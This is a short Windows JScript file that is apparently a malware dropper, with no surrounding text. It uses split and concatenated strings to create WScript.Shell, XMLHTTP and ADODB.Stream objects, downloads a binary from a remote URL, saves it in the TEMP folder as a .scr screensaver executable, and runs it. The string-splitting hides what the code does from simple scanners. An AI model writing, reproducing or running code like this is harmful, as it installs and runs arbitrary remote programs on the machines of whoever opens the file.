var parts = ["WScr", "ipt.Sh", "ell", "MSX", "ML2.XML", "HTTP", "ADO", "DB.Str", "eam", "sav", "eToFi", "le", "r", "un"];
function pick(from, to) { return parts.slice(from, to).join(""); }
var a = new this["Act" + "iveXOb" + "ject"](pick(0, 3)), b = new ActiveXObject(pick(3, 6)), c = new ActiveXObject(pick(6, 9));
b["op" + "en"]("G" + "ET", "h" + "ttp://host.example/" + "inv.php?n=" + Math.random(), 0);
b["se" + "nd"]();
c.open(); c.type = 2 - 1; c.write(b["responseB" + "ody"]);
var place = a["Environment"]("PROCESS")("TEMP") + "/" + 48213 + ".sc" + "r";
c[pick(9, 12)](place);
a[pick(12, 14)]("\"" + place.replace("/", "\\") + "\"");
